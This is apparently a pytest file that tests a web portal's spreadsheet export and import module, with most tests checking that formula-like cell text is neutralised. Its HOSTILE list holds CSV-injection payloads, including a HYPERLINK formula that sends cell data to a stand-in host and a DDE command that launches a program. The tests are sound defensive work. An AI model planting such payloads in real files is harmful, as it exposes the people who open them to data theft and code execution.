"""The one module every CSV and XLSX the portal writes goes through: no cell is ever a formula,
and numbers and dates keep their type."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from jakpreneur import spreadsheets

# What an attacker types as a name, and what legacy files contain by accident.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&C2,"Klik")',
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["Siti Aminah", "1+1", "a=b", "<5", "", "Jl. Kebon Kelapa No. 3", "'quoted already"]


def csv_text(rows) -> str:
    buffer = io.StringIO()
    spreadsheets.csv_writer(buffer).writerows(rows)
    return buffer.getvalue()


def xlsx_roundtrip(rows):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("data")
    for row in rows:
        sheet.append(spreadsheets.xlsx_row(sheet, row))
    output = io.BytesIO()
    workbook.save(output)
    return load_workbook(io.BytesIO(output.getvalue())).active


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_puts_an_apostrophe_before_formula_like_text(value):
    (row,) = csv.reader(io.StringIO(csv_text([[value]]), newline=""))
    assert row == ["'" + value]


@pytest.mark.parametrize("value", HARMLESS)
def test_csv_leaves_other_text_alone(value):
    (row,) = csv.reader(io.StringIO(csv_text([[value]]), newline=""))
    assert row == [value]


def test_csv_keeps_numbers_and_dates_as_they_are():
    row = [-1, -2.5, Decimal("-1500000.50"), 0, dt.date(2024, 1, 31), dt.datetime(2024, 1, 31, 8, 30), None]
    (written,) = csv.reader(io.StringIO(csv_text([row]), newline=""))
    assert written == ["-1", "-2.5", "-1500000.50", "0", "2024-01-31", "2024-01-31 08:30:00", ""]


def test_csv_neutralises_text_that_only_looks_like_a_negative_number():
    (written,) = csv.reader(io.StringIO(csv_text([["-1", -1]]), newline=""))
    assert written == ["'-1", "-1"]


def test_csv_writerow_returns_what_the_file_returned_for_streaming():
    class Echo:
        def write(self, value):
            return value

    assert spreadsheets.csv_writer(Echo()).writerow(["=1+1", 2]) == "'=1+1,2\r\n"


def test_xlsx_never_writes_a_formula_and_keeps_the_text_exactly():
    sheet = xlsx_roundtrip([HOSTILE, HARMLESS])
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # (XML turns a carriage return into a line feed; the cell still starts with a control.)
    assert [cell.value for cell in sheet[1]] == [value.replace("\r", "\n") for value in HOSTILE]
    # Excel's own "text typed as '=…" marker: stays text even when someone edits the cell.
    assert all(cell.quotePrefix for cell in sheet[1])
    assert not any(cell.quotePrefix for cell in sheet[2] if cell.value)


def test_xlsx_keeps_numbers_numeric_and_dates_dates():
    aware = dt.datetime(2024, 1, 31, 1, 30, tzinfo=dt.UTC)
    sheet = xlsx_roundtrip([[-1, -2.5, Decimal("-3"), "-1", dt.date(2024, 1, 31), aware, None, 0]])
    number, fraction, decimal, text, date, moment, empty, zero = sheet[1]
    assert (number.value, number.data_type) == (-1, "n")
    assert (fraction.value, fraction.data_type) == (-2.5, "n")
    assert (decimal.value, decimal.data_type) == (-3, "n")
    assert (text.value, text.data_type, text.quotePrefix) == ("-1", "s", True)
    assert date.is_date and date.value == dt.datetime(2024, 1, 31)
    # Aware datetimes are written as Jakarta's wall clock (XLSX has no time zones).
    assert moment.is_date and moment.value == timezone.localtime(aware).replace(tzinfo=None)
    assert empty.value is None
    assert (zero.value, zero.data_type) == (0, "n")


def test_xlsx_replaces_characters_xml_cannot_carry_instead_of_failing():
    sheet = xlsx_roundtrip([["\x00=1+1", "Siti\x1bAminah", "Baris\nbaru"]])
    assert [cell.value for cell in sheet[1]] == ["\ufffd=1+1", "Siti\ufffdAminah", "Baris\nbaru"]
    assert all(cell.data_type == "s" for cell in sheet[1])


# --- reading ---------------------------------------------------------------------------------


def test_a_table_is_read_as_columns_with_line_numbers():
    text = "NIK,Period,note,period\n 1 ,a,x,b\n,,,\n2\n3,c,y,d,extra\n"
    lines, columns = spreadsheets.read_columns(io.BytesIO(text.encode()), "s.csv", required=("nik", "period"))
    assert lines == [2, 4, 5]  # the empty line 3 is skipped
    # A repeated header names its last column; a short row's missing cells are empty.
    assert columns == {"nik": ["1", "2", "3"], "period": ["b", "", "d"]}


def test_more_rows_than_allowed_are_refused():
    text = "nik\n1\n2\n3\n"
    with pytest.raises(spreadsheets.SpreadsheetError):
        spreadsheets.read_columns(io.BytesIO(text.encode()), "s.csv", required=("nik",), max_rows=2)
    assert spreadsheets.read_columns(io.BytesIO(text.encode()), "s.csv", required=("nik",), max_rows=3)[0] == [2, 3, 4]
